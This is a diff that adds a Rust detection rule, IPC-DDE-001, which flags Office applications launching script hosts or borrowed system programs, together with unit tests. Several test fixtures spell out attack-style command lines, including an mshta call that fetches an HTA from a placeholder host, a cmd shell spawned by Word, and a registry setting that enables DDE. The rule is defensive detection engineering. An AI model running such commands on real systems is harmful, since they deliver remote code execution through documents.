@@ -1,0 +1,173 @@
+//! # IPC-DDE-001: Office starts a script host or borrowed system program
+//!
+//! ## What it detects
+//! An Office program in its own folder starts a script host, a system program that attackers borrow, or an untrusted
+//! program. With a sign of DDE in the ten minutes before (an instruction in a text, a setting that allows it) it is
+//! critical.
+//!
+//! ## Why it matters
+//! A document that starts programs is how DDE, macros and exploits of Office all show themselves.
+//!
+//! ## Telemetry
+//! Sysmon 1, Security 4688.
+//!
+//! ## False positives
+//! Printing helpers and error reporting are no script hosts. Applications that users installed for themselves and
+//! open from a mail (meeting clients, browsers): low. Add-ins that run scripts: allow by image.
+//!
+//! ## References
+//! ATT&CK T1559.002, T1204.002, T1566.001, DET0504 (AN1393).
+
+use std::time::Duration;
+
+use backchannel_events::{ActivityKind, Confidence, Indicators, Mechanism, ProcessEvent, Reasons, Severity, Source};
+
+use crate::text::{clip, contains_any};
+use crate::vocabulary::office;
+use crate::{Analytic, Context, Evidence, Family, Status, com_server, predicates};
+
+/// A sign of DDE counts this long.
+const WINDOW: Duration = Duration::from_secs(600);
+
+/// IPC-DDE-001.
+pub const ANALYTIC: Analytic = Analytic {
+    id: "IPC-DDE-001",
+    title: "Office starts a script host or borrowed system program",
+    family: Family::DynamicDataExchange,
+    techniques: &["T1559.002", "T1204.002", "T1566.001"],
+    attack_analytics: &["AN1393"],
+    severity: Severity::High,
+    status: Status::Stable,
+    on: &[ActivityKind::ProcessStart],
+    telemetry: &[Source::Sysmon, Source::Security],
+    evaluate,
+};
+
+fn evaluate(context: &Context<'_>, event: &ProcessEvent<'_>) -> Option<Evidence> {
+    let parent = context.parent();
+    if !office::is_installed(parent) {
+        return None;
+    }
+    let child = context.subject();
+    let (host, lolbin) = (predicates::is_script_host(child), predicates::is_lolbin(child));
+    let untrusted = predicates::is_untrusted(child);
+    if !(host || lolbin || untrusted) || is_office_s_own(child.command_line) {
+        return None;
+    }
+    let document = office::document(parent.command_line);
+    let opened = document.map_or(String::new(), |document| format!(" while {document} was open"));
+    // What users install for themselves is opened from mails and documents every day.
+    if untrusted && !host && !lolbin && com_server::product_folder(child.image).is_some() {
+        let text = format!(
+            "{} started {}{opened}, a program that the user installed for themselves.",
+            parent.name(),
+            child.name()
+        );
+        return Some(
+            Evidence::new(Severity::Low, Confidence::Low, text)
+                .indicators(Indicators::KI1)
+                .client(parent)
+                .server(child)
+                .channel(Mechanism::Unknown, ""),
+        );
+    }
+    let payload = office::has_payload(child.command_line)
+        || contains_any(child.command_line, &["%temp%", r"\appdata\", r"\temp\", r"\users\public\"]);
+    let trace = context.host.documents.traces.near(event.time, WINDOW).find(|trace| trace.note.time <= event.time);
+    let (severity, confidence) = match (trace, payload) {
+        (Some(_), _) => (Severity::Critical, Confidence::High),
+        (None, true) => (Severity::High, Confidence::High),
+        (None, false) => (Severity::High, Confidence::Medium),
+    };
+    let how = if trace.is_some() { "DDE is likely" } else { "a macro, DDE or an exploit did it" };
+    let text = format!(
+        "{} started {}{opened}: {how}. Command line: {}",
+        parent.name(),
+        child.name(),
+        clip(child.command_line, 200),
+    );
+    let mut evidence = Evidence::new(severity, confidence, text)
+        .reasons(Reasons::NONE.and_if(predicates::is_unknown_binary(child) || payload, Reasons::E3))
+        .indicators(Indicators::KI1)
+        .client(parent)
+        .server(child)
+        .channel(if trace.is_some() { Mechanism::Dde } else { Mechanism::Unknown }, document.unwrap_or(""));
+    if let Some(trace) = trace {
+        evidence = evidence.because(&trace.note, format!("a sign of DDE: {}", trace.what));
+    }
+    Some(evidence)
+}
+
+/// Commands that Office itself runs: its printing and conversion helpers, its own repair.
+fn is_office_s_own(line: &str) -> bool {
+    contains_any(
+        line,
+        &[
+            "splwow64",
+            "ClickToRun",
+            "OfficeC2R",
+            r"\Office16\OLicenseHeartbeat",
+            "PrintUIEntry",
+            "printui.dll",
+            "ndfapi.dll",
+        ],
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::testing::*;
+
+    const WORD: &str = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE";
+    const WORD_LINE: &str =
+        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\a\Downloads\invoice.docx""#;
+
+    #[test]
+    fn a_shell_under_word_fires_and_names_the_document() {
+        let events = [start(0, r"C:\Windows\System32\cmd.exe", "cmd.exe /k calc").by(WORD, WORD_LINE)];
+        let findings = check(&ANALYTIC, &events, Some((Severity::High, Confidence::Medium)));
+        assert!(findings[0].text.contains("invoice.docx"));
+    }
+
+    #[test]
+    fn a_command_that_fetches_is_more_certain() {
+        let events =
+            [start(0, r"C:\Windows\System32\mshta.exe", "mshta.exe http://a.example/x.hta").by(WORD, WORD_LINE)];
+        let findings = check(&ANALYTIC, &events, Some((Severity::High, Confidence::High)));
+        assert!(findings[0].reasons.contains(backchannel_events::Reason::UnknownBinary));
+    }
+
+    #[test]
+    fn a_setting_that_allows_dde_before_it_makes_it_critical() {
+        let setting = r"HKU\S-1-5-21-1\Software\Microsoft\Office\16.0\Word\Security\AllowDDE";
+        let events = [
+            registry_set(0, setting, "DWORD (0x00000002)"),
+            start(120, r"C:\Windows\System32\cmd.exe", "cmd.exe /k calc").by(WORD, WORD_LINE),
+        ];
+        check(&ANALYTIC, &events, Some((Severity::Critical, Confidence::High)));
+    }
+
+    #[test]
+    fn helpers_and_ordinary_programs_are_quiet() {
+        let events = [
+            start(0, r"C:\Windows\splwow64.exe", "splwow64.exe 12288").by(WORD, WORD_LINE),
+            start(1, r"C:\Windows\System32\WerFault.exe", "WerFault.exe -u").by(WORD, WORD_LINE),
+            start(2, r"C:\Program Files\Browser\browser.exe", "browser.exe https://a.example").by(WORD, WORD_LINE),
+        ];
+        check(&ANALYTIC, &events, None);
+    }
+
+    #[test]
+    fn an_application_of_the_user_s_own_is_low() {
+        let meeting = r"C:\Users\a\AppData\Roaming\Meeting\bin\Meeting.exe";
+        let events = [start(0, meeting, "Meeting.exe --url=meeting://1").by(WORD, WORD_LINE)];
+        check(&ANALYTIC, &events, Some((Severity::Low, Confidence::Low)));
+    }
+
+    #[test]
+    fn an_office_name_in_another_folder_is_another_finding_s() {
+        let events = [start(0, r"C:\Windows\System32\cmd.exe", "cmd.exe").by(r"C:\Users\a\WINWORD.EXE", "WINWORD.EXE")];
+        check(&ANALYTIC, &events, None);
+    }
+}
